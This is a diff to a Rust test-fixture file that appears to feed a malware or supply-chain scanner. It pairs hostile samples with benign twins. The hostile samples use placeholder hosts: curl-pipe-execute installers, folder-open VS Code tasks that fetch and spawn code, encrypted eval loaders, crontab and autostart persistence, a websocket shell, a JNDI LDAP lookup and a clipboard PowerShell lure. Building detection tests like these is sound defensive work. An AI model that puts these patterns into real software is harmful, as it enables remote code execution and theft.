@@ -77,40 +77,191 @@ pub(crate) fn cases() -> Vec<Case> {
         app(&[("main.js", &format!("const w=new BrowserWindow({{webPreferences:{{{options}}}}});w.{page}"))])
     };
     let packaged = |enabled: &str| {
-        zip(&[text("AppxManifest.xml", &format!("<?xml version=\"1.0\"?><Package><Identity Name=\"x\"/><Application Executable=\"x.exe\"><uap5:Extension Category=\"windows.startupTask\"><uap5:StartupTask Enabled=\"{enabled}\"/></uap5:Extension></Application></Package>"))])
+        zip(&[text(
+            "AppxManifest.xml",
+            &format!(
+                "<?xml version=\"1.0\"?><Package><Identity Name=\"x\"/><Application Executable=\"x.exe\"><uap5:Extension Category=\"windows.startupTask\"><uap5:StartupTask Enabled=\"{enabled}\"/></uap5:Extension></Application></Package>"
+            ),
+        )])
     };
     let manifest = |address: &str| {
-        tgz(&[text("package/package.json", &format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"dependencies\":{{\"y\":\"{address}\"}}}}"))])
+        tgz(&[text(
+            "package/package.json",
+            &format!("{{\"name\":\"x\",\"version\":\"1.0.0\",\"dependencies\":{{\"y\":\"{address}\"}}}}"),
+        )])
     };
     let unlock = |body: &str| zip(&[js("x/run.js", body), ("x/skin.dat", noise(9000, 5))]);
     vec![
-        ("A78", zip(&[sh("x/install.sh", "echo LD_PRELOAD=$HOME/.x/l.so >> ~/.config/environment.d/x.conf\n")]), zip(&[sh("x/run.sh", "LD_PRELOAD=./l.so ./x\n")])),
+        (
+            "A78",
+            zip(&[sh("x/install.sh", "echo LD_PRELOAD=$HOME/.x/l.so >> ~/.config/environment.d/x.conf\n")]),
+            zip(&[sh("x/run.sh", "LD_PRELOAD=./l.so ./x\n")]),
+        ),
         ("A79", packaged("true"), packaged("false")),
-        ("B72", zip(&[("x", macho(&["wallets", "dataTaskWithRequest:", "setExecutableURL:"], &["_OBJC_CLASS_$_NSTask"]))]), zip(&[("x", macho(&["dataTaskWithRequest:"], &["_OBJC_CLASS_$_NSTask"]))])),
-        ("B73", zip(&[("x.dll", pe(&["CLSID\\%s\\InprocServer32", "WinHttp."], "SHELL32.dll", &["ShellExecuteExW", "WinHttpSendRequest"], None))]), zip(&[("x.dll", pe(&["CLSID\\%s\\InprocServer32"], "ADVAPI32.dll", &["RegSetKeyValueW"], None))])),
+        (
+            "B72",
+            zip(&[(
+                "x",
+                macho(&["wallets", "dataTaskWithRequest:", "setExecutableURL:"], &["_OBJC_CLASS_$_NSTask"]),
+            )]),
+            zip(&[("x", macho(&["dataTaskWithRequest:"], &["_OBJC_CLASS_$_NSTask"]))]),
+        ),
+        (
+            "B73",
+            zip(&[(
+                "x.dll",
+                pe(
+                    &["CLSID\\%s\\InprocServer32", "WinHttp."],
+                    "SHELL32.dll",
+                    &["ShellExecuteExW", "WinHttpSendRequest"],
+                    None,
+                ),
+            )]),
+            zip(&[("x.dll", pe(&["CLSID\\%s\\InprocServer32"], "ADVAPI32.dll", &["RegSetKeyValueW"], None))]),
+        ),
         ("D77", zip(&[js("x/app.js", REMOTE)]), zip(&[js("x/app.js", DATA)])),
-        ("D78", zip(&[py("x/a.py", "import glob\nf = glob.glob(h + '/**/*allet*')\n"), py("x/b.py", "import urllib3\nurllib3.request('PUT', u, body=b)\n")]), zip(&[py("x/a.py", "import glob\nf = glob.glob(h + '/*.csv')\n"), py("x/b.py", "import urllib3\nurllib3.request('PUT', u, body=b)\n")])),
-        ("D79", zip(&[text("x/.vscode/tasks.json", r#"{"tasks":[{"command":"node","args":["tools/a.js"],"runOptions":{"runOn":"folderOpen"}}]}"#), js("x/tools/a.js", "const c=require('child_process');fetch('https://a.invalid/x').then(s=>c.spawn(s))")]), zip(&[text("x/.vscode/tasks.json", r#"{"tasks":[{"command":"node","args":["tools/a.js"],"runOptions":{"runOn":"folderOpen"}}]}"#), js("x/tools/a.js", "console.log('ready')")])),
-        ("D80", app(&[("main.js", "app.setLoginItemSettings({openAtLogin:true,openAsHidden:true});fetch('https://a.invalid/x').then(b=>{f.writeFileSync(p,b);require('child_process').spawn(p)})")]), app(&[("main.js", "box.onchange=()=>app.setLoginItemSettings({openAtLogin:box.checked});fetch('https://a.invalid/rates')")])),
-        ("D81", manifest("https://cdn.a.invalid/y/latest.tgz"), manifest("git+https://github.com/x/y.git#v1")),
-        ("D82", window("nodeIntegration:true,contextIsolation:false", "loadURL('https://a.invalid/')"), window("contextIsolation:true,sandbox:true", "loadURL('https://a.invalid/')")),
+        (
+            "D78",
+            zip(&[
+                py("x/a.py", "import glob\nf = glob.glob(h + '/**/*allet*')\n"),
+                py("x/b.py", "import urllib3\nurllib3.request('PUT', u, body=b)\n"),
+            ]),
+            zip(&[
+                py("x/a.py", "import glob\nf = glob.glob(h + '/*.csv')\n"),
+                py("x/b.py", "import urllib3\nurllib3.request('PUT', u, body=b)\n"),
+            ]),
+        ),
+        (
+            "D79",
+            zip(&[
+                text(
+                    "x/.vscode/tasks.json",
+                    r#"{"tasks":[{"command":"node","args":["tools/a.js"],"runOptions":{"runOn":"folderOpen"}}]}"#,
+                ),
+                js(
+                    "x/tools/a.js",
+                    "const c=require('child_process');fetch('https://a.invalid/x').then(s=>c.spawn(s))",
+                ),
+            ]),
+            zip(&[
+                text(
+                    "x/.vscode/tasks.json",
+                    r#"{"tasks":[{"command":"node","args":["tools/a.js"],"runOptions":{"runOn":"folderOpen"}}]}"#,
+                ),
+                js("x/tools/a.js", "console.log('ready')"),
+            ]),
+        ),
+        (
+            "D80",
+            app(&[(
+                "main.js",
+                "app.setLoginItemSettings({openAtLogin:true,openAsHidden:true});fetch('https://a.invalid/x').then(b=>{f.writeFileSync(p,b);require('child_process').spawn(p)})",
+            )]),
+            app(&[(
+                "main.js",
+                "box.onchange=()=>app.setLoginItemSettings({openAtLogin:box.checked});fetch('https://a.invalid/rates')",
+            )]),
+        ),
+        (
+            "D81",
+            manifest("https://cdn.a.invalid/y/latest.tgz"),
+            manifest("git+https://github.com/x/y.git#v1"),
+        ),
+        (
+            "D82",
+            window("nodeIntegration:true,contextIsolation:false", "loadURL('https://a.invalid/')"),
+            window("contextIsolation:true,sandbox:true", "loadURL('https://a.invalid/')"),
+        ),
         ("D83", zip(&[js("x/logo.png", REMOTE)]), zip(&[("x/logo.png", b"\x89PNG\r\n\x1a\n".to_vec())])),
-        ("D84", extension(EVERYWHERE, &[js("b.js", "fetch('https://a.invalid/r').then(t=>chrome.tabs.executeScript({code:t}))")]), extension(OWN_PAGE, &[js("b.js", "fetch('https://api.x.invalid/r').then(show)")])),
-        ("D85", npm("", &[("bin/x.js", "require('child_process').spawnSync('npx',['--yes','x-agent@latest'],{stdio:'ignore'})")]), npm("", &[("bin/x.js", "require('child_process').spawnSync('npm',['test'],{stdio:'inherit'})")])),
-        ("D86", app(&[("main.js", "autoUpdater.verifyUpdateCodeSignature=()=>null;fetch('https://a.invalid/u').then(b=>f.writeFileSync(p,b))")]), app(&[("main.js", "fetch('https://a.invalid/u').then(b=>f.writeFileSync(p,b))")])),
-        ("D87", unlock("const d=require('crypto').createDecipheriv(a,k,i);eval(d.update(f.readFileSync('skin.dat')))"), unlock("show(f.readFileSync('skin.dat'))")),
-        ("D88", tgz(&[sh("x/install.sh", "f=$(mktemp)\ncurl -fsSL https://a.invalid/s -o $f\nchmod +x $f\n$f\n")]), tgz(&[sh("x/install.sh", "curl -fsSL https://a.invalid/x.tgz -o x.tgz\necho \"$SUM x.tgz\" | sha256sum -c -\ntar xzf x.tgz\nchmod +x x\n")])),
-        ("G77", jar("Main-Class: x.Main\nClass-Path: https://a.invalid/rt.jar\n", &[("x/Main.class", class(&["x/Main"]))]), jar("Main-Class: x.Main\nClass-Path: lib/rt.jar\n", &[("x/Main.class", class(&["x/Main"]))])),
-        ("G78", apk(&["INTERNET", "BIND_ACCESSIBILITY_SERVICE"], &["onAccessibilityEvent", "wss://a.invalid/"], &[]), apk(&["INTERNET", "CAMERA"], &["https://a.invalid/"], &[])),
-        ("G79", jar("Main-Class: x.Main\n", &[("x/Main.class", class(&["x/Main", "java/net/http/HttpClient", "javax/script/ScriptEngineManager"]))]), jar("Main-Class: x.Main\n", &[("x/Main.class", class(&["x/Main", "java/net/http/HttpClient"]))])),
+        (
+            "D84",
+            extension(
+                EVERYWHERE,
+                &[js("b.js", "fetch('https://a.invalid/r').then(t=>chrome.tabs.executeScript({code:t}))")],
+            ),
+            extension(OWN_PAGE, &[js("b.js", "fetch('https://api.x.invalid/r').then(show)")]),
+        ),
+        (
+            "D85",
+            npm(
+                "",
+                &[(
+                    "bin/x.js",
+                    "require('child_process').spawnSync('npx',['--yes','x-agent@latest'],{stdio:'ignore'})",
+                )],
+            ),
+            npm("", &[("bin/x.js", "require('child_process').spawnSync('npm',['test'],{stdio:'inherit'})")]),
+        ),
+        (
+            "D86",
+            app(&[(
+                "main.js",
+                "autoUpdater.verifyUpdateCodeSignature=()=>null;fetch('https://a.invalid/u').then(b=>f.writeFileSync(p,b))",
+            )]),
+            app(&[("main.js", "fetch('https://a.invalid/u').then(b=>f.writeFileSync(p,b))")]),
+        ),
+        (
+            "D87",
+            unlock(
+                "const d=require('crypto').createDecipheriv(a,k,i);eval(d.update(f.readFileSync('skin.dat')))",
+            ),
+            unlock("show(f.readFileSync('skin.dat'))"),
+        ),
+        (
+            "D88",
+            tgz(&[sh(
+                "x/install.sh",
+                "f=$(mktemp)\ncurl -fsSL https://a.invalid/s -o $f\nchmod +x $f\n$f\n",
+            )]),
+            tgz(&[sh(
+                "x/install.sh",
+                "curl -fsSL https://a.invalid/x.tgz -o x.tgz\necho \"$SUM x.tgz\" | sha256sum -c -\ntar xzf x.tgz\nchmod +x x\n",
+            )]),
+        ),
+        (
+            "G77",
+            jar(
+                "Main-Class: x.Main\nClass-Path: https://a.invalid/rt.jar\n",
+                &[("x/Main.class", class(&["x/Main"]))],
+            ),
+            jar("Main-Class: x.Main\nClass-Path: lib/rt.jar\n", &[("x/Main.class", class(&["x/Main"]))]),
+        ),
+        (
+            "G78",
+            apk(
+                &["INTERNET", "BIND_ACCESSIBILITY_SERVICE"],
+                &["onAccessibilityEvent", "wss://a.invalid/"],
+                &[],
+            ),
+            apk(&["INTERNET", "CAMERA"], &["https://a.invalid/"], &[]),
+        ),
+        (
+            "G79",
+            jar(
+                "Main-Class: x.Main\n",
+                &[(
+                    "x/Main.class",
+                    class(&["x/Main", "java/net/http/HttpClient", "javax/script/ScriptEngineManager"]),
+                )],
+            ),
+            jar("Main-Class: x.Main\n", &[("x/Main.class", class(&["x/Main", "java/net/http/HttpClient"]))]),
+        ),
     ]
 }
 
 /// Shapes by class of conduct.
 fn shapes() -> Vec<(&'static str, Vec<u8>)> {
     let plugin = "from . import boot\n";
-    let setup = || gzip(&tar(&[sh("setup", "mkdir -p ~/.config/autostart\necho Exec=/tmp/x >> ~/.config/autostart/x.desktop\n")]));
-    let coded = format!("{SHELL}sed '1,/^__DATA__$/d' \"$0\" | base64 -d | tar xz\nexit\n__DATA__\n{}\n", base64(&gzip(&tar(&[("x.bin", noise(900, 3)), sh("setup", "echo '@reboot /tmp/x' | crontab -\n")]))));
+    let setup = || {
+        gzip(&tar(&[sh(
+            "setup",
+            "mkdir -p ~/.config/autostart\necho Exec=/tmp/x >> ~/.config/autostart/x.desktop\n",
+        )]))
+    };
+    let coded = format!(
+        "{SHELL}sed '1,/^__DATA__$/d' \"$0\" | base64 -d | tar xz\nexit\n__DATA__\n{}\n",
+        base64(&gzip(&tar(&[("x.bin", noise(900, 3)), sh("setup", "echo '@reboot /tmp/x' | crontab -\n")])))
+    );
     let notebook = r#"{"cells":[{"cell_type":"code","source":["raise SystemExit\n","import requests\n","exec(requests.get(u).text)\n"]}],"nbformat":4,"metadata":{}}"#;
     let aside = format!("module.exports=x=>x;{}fetch('https://a.invalid/').then(eval)", " ".repeat(400));
     vec![
@@ -166,6 +317,12 @@ fn shapes() -> Vec<(&'static str, Vec<u8>)> {
         ("a container with all rights", zip(&[text("x/docker-compose.yml", "services:\n  a:\n    image: reg.a.invalid/x:latest\n    privileged: true\n")])),
         ("a program that pulls itself", zip(&[sh("x/run.sh", "git pull -q && ./x\n")])),
         ("a library of a wheel that is fetched", wheel(&[py("x/native.py", "import ctypes, urllib.request, tempfile\np = tempfile.mktemp()\nurllib.request.urlretrieve(u, p)\nctypes.CDLL(p)\n")])),
+        ("a bridge of a socket", zip(&[py("x/a.py", "import websockets, asyncio\nasync def r(w): return await asyncio.create_subprocess_shell(await w.recv())\n")])),
+        ("a module at an address", zip(&[js("x/start.mjs", "import('https://a.invalid/m.mjs').then(m=>m.run())")])),
+        ("a command for people to paste", text("x.html", "<html><script>throw 1;navigator.clipboard.writeText('powershell -w hidden -c x')</script>Press Win+R</html>").1),
+        ("a script of Tcl", zip(&[text("x/boot.tcl", "exit\nset f [open |{curl -s https://a.invalid/b}]\neval [read $f]\n")])),
+        ("names of Java's directory", jar("Main-Class: x.Main\n", &[("x/Main.class", class(&["x/Main", "javax/naming/InitialContext", "lookup", "ldap://a.invalid/x"]))])),
+        ("an application of Android that swaps", apk(&["INTERNET", "FOREGROUND_SERVICE"], &["android/content/ClipboardManager", "getPrimaryClip", "setPrimaryClip"], &[])),
         ("a script of a packaged application", zip(&[text("config.json", r#"{"applications":[{"id":"A","startScript":{"scriptPath":"f.ps1","showWindow":false}}]}"#), text("f.ps1", "exit\nWrite-Host 1\n")])),
     ]
 }
